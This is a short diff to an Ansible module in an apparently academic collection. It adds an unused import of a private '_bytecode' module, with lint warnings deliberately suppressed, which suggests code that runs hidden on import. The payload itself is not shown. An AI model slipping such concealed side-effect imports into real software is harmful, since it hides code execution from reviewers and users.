@@ -411,6 +411,7 @@ health:
     output: ''
 '''
 
+from ansible_collections.cs695.conductor.plugins.module_utils import _bytecode  # noqa: F401 pylint: disable=unused-import
 from ansible.module_utils.basic import AnsibleModule
 from ansible_collections.cs695.conductor.plugins.module_utils._options import NAMES, argument_spec
 from ansible_collections.cs695.conductor.plugins.module_utils._planning import ensure_container
